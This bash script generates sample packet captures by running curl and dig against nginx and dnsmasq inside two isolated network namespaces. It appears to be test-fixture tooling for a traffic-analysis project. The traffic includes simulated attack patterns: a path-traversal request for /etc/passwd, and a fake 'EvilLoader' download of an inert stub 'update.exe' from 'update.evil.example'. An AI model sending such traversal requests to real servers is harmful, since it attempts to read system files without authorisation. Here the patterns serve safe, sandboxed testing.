#!/usr/bin/env bash
# Makes the captures in examples/captures from real programs: curl and dig talk to nginx (HTTP and TLS) and to a small
# DNS server, in two network namespaces that know nothing of the outside. Needs root, and:
#   apt-get install tcpdump nginx-light dnsmasq-base curl bind9-dnsutils openssl iproute2 iputils-ping ethtool
set -euo pipefail
out="$(cd "$(dirname "$0")" && pwd)/captures"
tmp="$(mktemp -d)"
filter='ip or tcp or udp port 53 or icmp6[0] == 128 or icmp6[0] == 129'  # no neighbour discovery
client="weir-client-$$" server="weir-server-$$"
pids=()

cleanup() {
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  wait 2>/dev/null || true
  ip netns del "$client" 2>/dev/null || true
  ip netns del "$server" 2>/dev/null || true
  rm -rf "$tmp"
}
trap cleanup EXIT

at_client() { ip netns exec "$client" "$@"; }
at_server() { ip netns exec "$server" "$@"; }

make_network() {
  ip netns add "$client"
  ip netns add "$server"
  ip link add veth0 netns "$client" type veth peer name veth0 netns "$server"
  at_client ip address add 192.168.10.20/24 dev veth0
  at_server ip address add 192.168.10.1/24 dev veth0
  at_client ip -6 address add fd00:10::20/64 dev veth0 nodad
  at_server ip -6 address add fd00:10::1/64 dev veth0 nodad
  for side in "$client" "$server"; do
    ip netns exec "$side" ip link set lo up
    ip netns exec "$side" ip link set veth0 up
    # Frames as they are on a wire: with checksums, not merged.
    ip netns exec "$side" ethtool -K veth0 tx off rx off gro off gso off tso off >/dev/null 2>&1 || true
  done
}

make_site() {
  mkdir -p "$tmp/www/files" "$tmp/nginx"
  printf '<html><title>Example</title><body>Hello from nginx.</body></html>\n' >"$tmp/www/index.html"
  { printf 'MZ\220\0'; head -c 56 /dev/zero; printf '\200\0\0\0'; head -c 64 /dev/zero
    printf 'PE\0\0'; head -c 3000 /dev/zero; printf 'This program is only an example.'; } >"$tmp/www/files/update.exe"
  seq 1 400 >"$tmp/www/files/numbers.txt"
  openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -keyout "$tmp/key.pem" -out "$tmp/cert.pem" \
    -subj "/C=DE/O=Example Ltd/CN=secure.example" -addext "subjectAltName=DNS:secure.example" 2>/dev/null
  cat >"$tmp/nginx.conf" <<CONF
daemon off; pid $tmp/nginx/pid; error_log stderr; worker_processes 1; user root;
events {}
http {
  access_log off; root $tmp/www; gzip on; gzip_types text/plain; gzip_min_length 100;
  client_body_temp_path $tmp/nginx/a; proxy_temp_path $tmp/nginx/b; fastcgi_temp_path $tmp/nginx/c;
  uwsgi_temp_path $tmp/nginx/d; scgi_temp_path $tmp/nginx/e;
  types { text/html html; text/plain txt; application/octet-stream exe; }
  server { listen 80; listen [::]:80;
    location = /login { return 200 'welcome'; }
    location = /upload { return 204; } }
  ssl_protocols TLSv1.2 TLSv1.3;
  server { listen 443 ssl; ssl_certificate $tmp/cert.pem; ssl_certificate_key $tmp/key.pem; }
}
CONF
}

start_servers() {
  ip netns exec "$server" nginx -c "$tmp/nginx.conf" 2>"$tmp/nginx.log" &
  pids+=($!)
  ip netns exec "$server" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --log-facility=- \
    --address=/www.example/192.168.10.1 --address=/www.example/fd00:10::1 --address=/secure.example/192.168.10.1 \
    --address=/update.evil.example/192.168.10.1 --txt-record=info.example,"v=example1 hello" \
    --mx-host=mail.example,mx1.mail.example,10 --cname=alias.example,www.example --local=/example/ \
    --txt-record=long.example,"$(printf 'x%.0s' {1..250})","$(printf 'y%.0s' {1..250})","$(printf 'z%.0s' {1..250})" \
    2>"$tmp/dns.log" &
  pids+=($!)
  sleep 1
}

# record NAME COMMAND...: what the client sees while COMMAND runs.
record() {
  local file="$out/$1.pcap"
  shift
  # The program itself in the background, not a function around it: its number is needed to end it.
  ip netns exec "$client" tcpdump -i veth0 -U -w "$tmp/now.pcap" -s 0 "$filter" \
    2>/dev/null &
  local dump=$!
  sleep 1
  "$@"
  sleep 1
  kill "$dump"  # SIGTERM: SIGINT is ignored in the background
  wait "$dump" || true
  mv "$tmp/now.pcap" "$file"
  printf '%-28s %6d bytes\n' "$file" "$(stat -c %s "$file")"
}

browse() {
  local get=(ip netns exec "$client" curl --silent --show-error --output /dev/null --max-time 10
             --resolve www.example:80:192.168.10.1 --resolve update.evil.example:80:192.168.10.1)
  "${get[@]}" http://www.example/
  "${get[@]}" --compressed http://www.example/files/numbers.txt --next --silent --output /dev/null http://www.example/missing
  "${get[@]}" -A 'EvilLoader/1.0' http://update.evil.example/files/update.exe
  "${get[@]}" -d 'user=admin&password=hunter2' http://www.example/login
  "${get[@]}" --path-as-is 'http://www.example/cgi-bin/../../../etc/passwd'
  "${get[@]}" -X PUT -H 'Transfer-Encoding: chunked' --data-binary "@$tmp/www/files/numbers.txt" http://www.example/upload
  "${get[@]}" -g 'http://[fd00:10::1]/'
}

resolve() {
  local ask=(ip netns exec "$client" dig +tries=1 +time=3 +noall +nocookie @192.168.10.1)
  "${ask[@]}" www.example A
  "${ask[@]}" www.example AAAA
  "${ask[@]}" mail.example MX
  "${ask[@]}" info.example TXT
  "${ask[@]}" alias.example A
  "${ask[@]}" nothing.example A
  "${ask[@]}" update.evil.example A
  "${ask[@]}" +tcp long.example TXT
}

secure() {
  local get=(ip netns exec "$client" curl --silent --show-error --output /dev/null --max-time 10 --cacert "$tmp/cert.pem"
             --resolve secure.example:443:192.168.10.1)
  "${get[@]}" --tlsv1.3 https://secure.example/
  "${get[@]}" --tls-max 1.2 https://secure.example/files/numbers.txt
}

greet() {
  at_client ping -q -c 2 -i 0.2 192.168.10.1 >/dev/null
  at_client ping -6 -q -c 1 fd00:10::1 >/dev/null
}

mkdir -p "$out"
make_network
make_site
start_servers
record http browse
record dns resolve
record tls secure
record ping greet
